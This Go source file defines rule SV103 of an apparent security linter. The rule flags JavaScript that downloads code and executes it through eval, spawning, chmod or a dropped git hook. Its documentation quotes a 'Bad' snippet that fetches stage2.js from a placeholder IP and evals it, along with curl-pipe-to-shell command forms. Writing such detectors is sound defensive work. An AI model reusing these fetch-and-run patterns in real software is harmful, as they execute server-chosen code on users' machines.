package rules

import (
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/parse/shell"
	"path"
	"strconv"
	"strings"

	"github.com/dop251/goja/ast"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/jsfacts"
)

// JSRemoteCode reports JavaScript that downloads code and runs it.
var JSRemoteCode = register(&analyzer.Rule{
	ID:       "SV103",
	Name:     "js-remote-code",
	Title:    "JavaScript downloads code and runs it",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "CWE-494", "CWE-829"},
	Inputs:   analyzer.InJS,
	Doc: `A JavaScript or TypeScript file fetches content from the network and executes it:

- passes a download to ` + "`eval`" + `, ` + "`new Function`" + `, ` + "`vm.runIn*`" + `, ` + "`new vm.Script`" + ` or
  ` + "`module._compile`" + `;
- writes a download to disk and then makes it executable (` + "`fs.chmod`" + ` with an execute bit,
  ` + "`chmod +x`" + `), runs it as the program (` + "`spawn`/`execFile`/`exec`/`fork`" + `, an interpreter given it
  as its script, ` + "`sudo`/`nohup`/`timeout`" + ` in front) or loads it (` + "`require`" + `). A download handed
  to a fixed program as data (` + "`execFileSync('unzip', [zip])`" + `, ` + "`ffmpeg -i`" + `) and ` + "`chmod 0o600`" + ` are not
  reported;
- imports a module from a URL or a ` + "`data:`" + ` URL;
- writes a script whose text downloads and runs code (` + "`curl … | sh`" + `, ` + "`bash -c \"$(curl …)\"`" + `)
  as an executable file (` + "`mode: 0o755`" + `, a later ` + "`chmod`" + `, or into a ` + "`hooks/`" + ` directory),
  so it runs later — on every commit for a git hook.

The data flow is followed through variables, callbacks (` + "`res.on('data')`" + `), promise
chains (` + "`await r.text()`" + `) and stream pipes. This is the JavaScript form of ` + "`curl | sh`" + `: what
runs is decided by the server at run time, after any review.

**Fix:** ship the code in the skill, or install a pinned, checksummed package through a
package manager.

Bad:

` + "```js" + `
const r = await fetch('https://198.51.100.7/stage2.js');
eval(await r.text());
` + "```" + `

Good:

` + "```js" + `
const { helper } = require('./lib/helper.js');
` + "```",
	Run: runJSRemoteCode,
})

func runJSRemoteCode(p *analyzer.Pass) error {
	v := jsfacts.Of(p)
	if v == nil {
		return nil
	}
	// 1. downloads evaluated as code
	sink := func(n ast.Node, callee string, args []ast.Expression, calleeExpr ast.Expression) {
		what, code := v.EvalSink(callee, args)
		if code == nil {
			if dot, ok := calleeExpr.(*ast.DotExpression); ok && dot.Identifier.Name.String() == "_compile" && len(args) > 0 {
				what, code = "module._compile()", args[0]
			}
		}
		if code != nil && v.FromNetwork(code) != nil {
			v.Report(n, Critical, what+" runs code downloaded from the network")
		}
	}
	for _, c := range v.Info.Calls() {
		if err := v.Pass.Context().Err(); err != nil {
			return err
		}
		callee, args := v.EffectiveCall(c)
		sink(c, callee, args, c.Callee)
	}
	for _, n := range v.Info.News() {
		sink(n, jsfacts.NormMod(v.Info.Resolve(n.Callee)), n.ArgumentList, n.Callee)
	}

	// 2. a script that downloads and runs code, written as an executable
	// (a git hook, a shim on PATH): it runs later, outside this file
	jsDroppers(v)

	// 3. downloads written to disk, then made executable, run or loaded
	keys := map[string]bool{}
	for _, c := range v.Info.Calls() {
		if err := v.Pass.Context().Err(); err != nil {
			return err
		}
		callee := v.Callee(c)
		switch callee {
		case "module:fs.writeFileSync", "module:fs.writeFile", "module:fs.appendFileSync", "module:fs-extra.outputFile":
			if len(c.ArgumentList) > 1 && v.FromNetwork(c.ArgumentList[1]) != nil {
				jsAddKeys(v, keys, c.ArgumentList[0])
			}
		}
		// res.pipe(fs.createWriteStream(p)) and pipeline(res, createWriteStream(p))
		dot, ok := c.Callee.(*ast.DotExpression)
		isPipe := ok && dot.Identifier.Name.String() == "pipe" && len(c.ArgumentList) > 0 && v.FromNetwork(dot.Left) != nil
		isPipeline := (callee == "module:stream.pipeline" || callee == "module:stream/promises.pipeline") && len(c.ArgumentList) > 1 && v.FromNetwork(c.ArgumentList[0]) != nil
		if isPipe || isPipeline {
			for _, a := range c.ArgumentList {
				v.Info.Reach(a, func(x ast.Expression) bool {
					if wc, ok := x.(*ast.CallExpression); ok && v.Callee(wc) == "module:fs.createWriteStream" && len(wc.ArgumentList) > 0 {
						jsAddKeys(v, keys, wc.ArgumentList[0])
					}
					return true
				})
			}
		}
	}
	if len(keys) == 0 {
		return nil
	}
	for _, c := range v.Info.Calls() {
		if err := v.Pass.Context().Err(); err != nil {
			return err
		}
		callee := v.Callee(c)
		var what string
		switch {
		case callee == "module:fs.chmodSync" || callee == "module:fs.chmod":
			what = "makes a downloaded file executable"
		case jsfacts.ChildProcessCall(callee) != "":
			what = "runs a downloaded file"
		case callee == "require":
			what = "loads a downloaded file as a module"
		default:
			continue
		}
		if len(c.ArgumentList) == 0 {
			continue
		}
		args := c.ArgumentList
		switch what {
		case "makes a downloaded file executable":
			if len(args) > 1 && jsModeNoExec(v, args[1]) {
				continue // chmod 0o600: locks the file down, runs nothing
			}
			args = args[:1]
		case "runs a downloaded file":
			args = jsProgramArgs(v, jsfacts.ChildProcessCall(callee), args)
		default:
			args = args[:1]
		}
		for _, a := range args {
			if jsMatchesKey(v, keys, a) {
				v.Report(c, Critical, what)
				break
			}
		}
	}
	return nil
}

// jsModeNoExec reports a file mode argument known to set no execute bit
// (0o600, 0o644, '600', 384).
func jsModeNoExec(v *jsfacts.View, e ast.Expression) bool {
	switch m := e.(type) {
	case *ast.NumberLiteral:
		switch n := m.Value.(type) {
		case int64:
			return n >= 0 && n&0o111 == 0
		case float64:
			return n >= 0 && n == float64(int64(n)) && int64(n)&0o111 == 0
		}
		return false
	}
	str, ok := v.Info.Str(e)
	if !ok || str == "" || strings.Trim(str, "01234567") != "" {
		return false
	}
	n, err := strconv.ParseInt(str, 8, 64)
	return err == nil && n&0o111 == 0
}

// jsRunsScript reports a program that runs the script file it is given:
// the shells and interpreters shellfacts knows, and Windows' script hosts.
func jsRunsScript(name string) bool {
	switch name {
	case "cmd", "wscript", "cscript":
		return true
	}
	return shellfacts.IsInterpreter(name) || strings.HasPrefix(name, "python")
}

// jsProgramArgs returns the arguments of a child-process call that name
// the program it runs: the file given to execFile/spawn/fork, an
// interpreter's script, the start of an exec command line. A download
// handed to a program as data (execFileSync('unzip', [zip]), ffmpeg -i
// clip) is not run. When the call's shape is not known, every argument
// counts.
func jsProgramArgs(v *jsfacts.View, fn string, args []ast.Expression) []ast.Expression {
	if len(args) == 0 {
		return args
	}
	base := fn[strings.LastIndexByte(fn, '.')+1:]
	switch base {
	case "execFile", "execFileSync", "spawn", "spawnSync", "fork":
		prog, ok := v.Info.Str(args[0])
		if !ok {
			return args[:1] // the program itself is computed: it may be the download
		}
		name := strings.ToLower(strings.TrimSuffix(prog[strings.LastIndexAny(prog, `/\`)+1:], ".exe"))
		if !jsRunsScript(name) {
			return args[:1]
		}
		if len(args) < 2 {
			return args[:1]
		}
		if arr, ok := args[1].(*ast.ArrayLiteral); ok {
			// the interpreter's script: its first argument that is not an option
			for _, a := range arr.Value {
				if sv, ok := v.Info.Str(a); ok && strings.HasPrefix(sv, "-") {
					continue
				}
				return []ast.Expression{a}
			}
			return nil
		}
		return args[:2]
	case "exec", "execSync":
		if lead, ok := jsCommandLead(v, args[0]); ok {
			if jsLeadRunsNext(lead) {
				return args[:1]
			}
			return nil // the computed part is an argument of a fixed program
		}
	}
	return args
}

// jsSlot stands for the computed part of a command line when its
// constant start is parsed.
const jsSlot = "SKILLVET_COMPUTED_PART"

// jsLeadRunsNext reports whether the computed part that follows the
// constant start of a command line is run: parsed as a shell command with
// a stand-in for it, it is the program (after sudo, nohup, env X=1,
// timeout 30, which the shell parser unwraps), a script an interpreter is
// given with only options before it, or the file of chmod +x.
func jsLeadRunsNext(lead string) bool {
	sc := shell.Parse(strings.TrimRight(lead, `"'`)+jsSlot, 0)
	for _, c := range sc.Commands {
		argv := c.Argv
		if c.Name == "start" && len(argv) > 1 { // Windows: start "" PROGRAM
			argv = argv[1:]
			for len(argv) > 1 && (argv[0].Value == "" || strings.HasPrefix(argv[0].Value, "/")) {
				argv = argv[1:]
			}
		}
		at := -1
		for k, w := range argv {
			if strings.Contains(w.Value, jsSlot) {
				at = k
				break
			}
		}
		switch {
		case at < 0:
			continue
		case at == 0:
			return true // the program itself
		}
		name := strings.ToLower(strings.TrimSuffix(path.Base(strings.ReplaceAll(argv[0].Value, `\`, "/")), ".exe"))
		if jsRunsScript(name) {
			for _, w := range argv[1:at] {
				if !strings.HasPrefix(w.Value, "-") && !strings.HasPrefix(w.Value, "/") {
					return false // the interpreter's script is a fixed file
				}
			}
			return true // its script (or its -c program) is the computed part
		}
		return name == "chmod" && at == 2 && (strings.Contains(argv[1].Value, "x") || strings.ContainsAny(argv[1].Value, "1357"))
	}
	return false
}

// jsCommandLead returns the constant text before the first computed part
// of a command line built with a template or +, or false when it is not
// built that way.
func jsCommandLead(v *jsfacts.View, e ast.Expression) (string, bool) {
	for range 4 {
		id, ok := e.(*ast.Identifier)
		if !ok {
			break
		}
		d := v.Info.SingleDef(id)
		if d == nil || d.Init == nil || d.Compound || d.Param {
			return "", false
		}
		e = d.Init
	}
	switch x := e.(type) {
	case *ast.TemplateLiteral:
		if len(x.Expressions) == 0 || len(x.Elements) == 0 {
			return "", false
		}
		return x.Elements[0].Parsed.String(), true
	case *ast.BinaryExpression:
		if x.Operator.String() != "+" {
			return "", false
		}
		for {
			l, ok := x.Left.(*ast.BinaryExpression)
			if !ok || l.Operator.String() != "+" {
				break
			}
			x = l
		}
		if s, ok := v.Info.Str(x.Left); ok {
			if _, rightConst := v.Info.Str(x.Right); rightConst {
				return "", false
			}
			return s, true
		}
		return "", true
	}
	return "", false
}

func jsPathKey(v *jsfacts.View, e ast.Expression) string {
	if s, ok := v.PathStr(e); ok {
		return "p:" + s
	}
	if id, ok := e.(*ast.Identifier); ok {
		return "id:" + id.Name.String()
	}
	return ""
}

func jsAddKeys(v *jsfacts.View, keys map[string]bool, e ast.Expression) {
	if k := jsPathKey(v, e); k != "" {
		keys[k] = true
	}
	if id, ok := e.(*ast.Identifier); ok {
		keys["id:"+id.Name.String()] = true
	}
}

func jsMatchesKey(v *jsfacts.View, keys map[string]bool, e ast.Expression) bool {
	hit := false
	v.Info.Reach(e, func(x ast.Expression) bool {
		if hit {
			return false
		}
		if id, ok := x.(*ast.Identifier); ok && keys["id:"+id.Name.String()] {
			hit = true
			return false
		}
		if k := jsPathKey(v, x); k != "" && keys[k] {
			hit = true
			return false
		}
		if s, ok := v.Info.Str(x); ok {
			for k := range keys {
				if p, ok := strings.CutPrefix(k, "p:"); ok && len(p) > 3 && !strings.Contains(p, "*") && strings.Contains(s, p) {
					hit = true
					return false
				}
			}
		}
		return true
	})
	return hit
}

// jsDroppers reports files written with executable permission (or into a
// hooks directory, or chmod-ed afterwards) whose content is a shell script
// that downloads and runs code.
func jsDroppers(v *jsfacts.View) {
	chmodded := map[string]bool{}
	for _, c := range v.Info.Calls() {
		switch v.Callee(c) {
		case "module:fs.chmodSync", "module:fs.chmod", "module:fs.promises.chmod":
			if len(c.ArgumentList) > 0 {
				jsAddKeys(v, chmodded, c.ArgumentList[0])
			}
		}
	}
	for _, c := range v.Info.Calls() {
		switch v.Callee(c) {
		case "module:fs.writeFileSync", "module:fs.writeFile", "module:fs.promises.writeFile",
			"module:fs-extra.outputFile", "module:fs-extra.outputFileSync":
		default:
			continue
		}
		if len(c.ArgumentList) < 2 {
			continue
		}
		why := v.ShellDangerOf(c.ArgumentList[1])
		if why == "" {
			continue
		}
		path, _ := v.PathStr(c.ArgumentList[0])
		exec := len(c.ArgumentList) > 2 && jsExecMode(v.ObjProp(c.ArgumentList[2], "mode"))
		hook := strings.Contains(path, "hooks/") || strings.Contains(path, "/.git/")
		if !hook {
			// path.join(hooksDir, name) with hooksDir = …'hooks'
			v.Info.Reach(c.ArgumentList[0], func(x ast.Expression) bool {
				if s, ok := v.Info.Str(x); ok && strings.Contains(strings.ToLower(s), "hooks") {
					hook = true
				}
				return !hook
			})
		}
		if exec || hook || len(chmodded) > 0 && jsMatchesKey(v, chmodded, c.ArgumentList[0]) {
			where := "an executable script"
			if hook {
				where = "a hook script"
			}
			v.Report(c, Critical, "writes "+where+" that "+why)
		}
	}
}

// jsExecMode reports a file mode with an execute bit.
func jsExecMode(e ast.Expression) bool {
	switch x := e.(type) {
	case *ast.NumberLiteral:
		switch n := x.Value.(type) {
		case int64:
			return n&0o111 != 0
		case float64:
			return int64(n)&0o111 != 0
		}
	case *ast.StringLiteral:
		n, err := strconv.ParseInt(strings.TrimPrefix(x.Value.String(), "0o"), 8, 32)
		return err == nil && n&0o111 != 0
	}
	return false
}
